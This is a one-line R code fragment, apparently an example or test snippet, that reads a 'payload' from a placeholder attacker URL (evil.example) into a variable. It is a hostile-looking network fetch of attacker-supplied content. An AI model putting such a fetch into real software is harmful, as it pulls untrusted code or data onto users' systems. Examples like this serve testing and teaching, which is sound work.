payload <- readLines(url("http://evil.example/p.txt"))
